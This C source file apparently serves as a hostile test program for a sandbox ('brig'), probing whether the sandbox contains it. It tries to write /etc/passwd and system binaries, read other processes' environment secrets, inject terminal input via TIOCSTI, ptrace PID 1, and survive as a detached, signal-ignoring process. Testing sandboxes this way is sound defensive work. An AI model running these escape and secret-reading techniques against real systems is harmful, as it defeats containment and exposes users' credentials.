/* Hostile command for t-sandbox-escape: tries to outlive its sandbox
 * (double fork, setsid, every catchable signal ignored, a heartbeat into
 * the workspace), to write outside /workspace (the root, the rootfs's
 * binaries, brig's init) and to read the caller's environment. Prints
 * one line per attempt: "WROTE path" / "READ-ENV" mark a success. */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <termios.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void try_write(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0 && write(fd, "pwned\n", 6) == 6) printf("WROTE %s\n", path);
    else printf("refused %s\n", path);
    if (fd >= 0) close(fd);
}

/* Every environ this process can read: its own and every visible pid's. */
static void try_env(const char *needle)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        char path[300], buf[65536];
        snprintf(path, sizeof(path), "/proc/%s/environ", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof(buf) - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i++) if (buf[i] == '\0') buf[i] = '\n';
        if (n > 0) { buf[n] = '\0'; if (strstr(buf, needle)) printf("READ-ENV %s\n", path); }
    }
    if (d) closedir(d);
}

/* The caller's terminal: write to it, push input into it (TIOCSTI). */
static void try_tty(void)
{
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd >= 0 && write(fd, "TTY-WRITE-MARKER\n", 17) == 17) printf("TTY-WROTE /dev/tty\n");
    else printf("refused /dev/tty\n");
    int fds[4] = { fd, 0, 1, 2 };
    for (int i = 0; i < 4; i++) {
        char c = '#';
        if (fds[i] >= 0 && ioctl(fds[i], TIOCSTI, &c) == 0) printf("TTY-INJECTED fd %d\n", fds[i]);
    }
    if (fd >= 0) close(fd);
}

/* PID 1 (brig-init, the same uid): attached, it could be kept alive past
 * the command's exit or made to report another status. */
static void try_ptrace_init(void)
{
    if (ptrace(PTRACE_ATTACH, 1, 0, 0) == 0) {
        printf("PTRACED 1\n");
        waitpid(1, NULL, __WALL);
        ptrace(PTRACE_DETACH, 1, 0, 0);
    } else {
        printf("refused ptrace 1\n");
    }
}

static void survivor(void)
{
    for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    for (;;) {
        int fd = open("/workspace/heartbeat", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) { dprintf(fd, "%ld\n", (long)time(NULL)); close(fd); }
        usleep(100000);
    }
}

int main(int argc, char **argv)
{
    const char *needle = argc > 1 ? argv[1] : "none";
    try_write("/pwned");
    try_write("/bin/busybox");
    try_write("/etc/passwd");
    try_write("/dev/.brig-init");
    try_env(needle);
    try_tty();
    try_ptrace_init();
    fflush(stdout);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) survivor();
        _exit(0);
    }
    if (fork() == 0) survivor();     /* a plain background child too */
    sleep(1);
    printf("escaper detached\n");
    fflush(stdout);
    /* argv[2] "wait": stay until the timeout kills the sandbox */
    if (argc > 2 && strcmp(argv[2], "wait") == 0) pause();
    return 0;
}
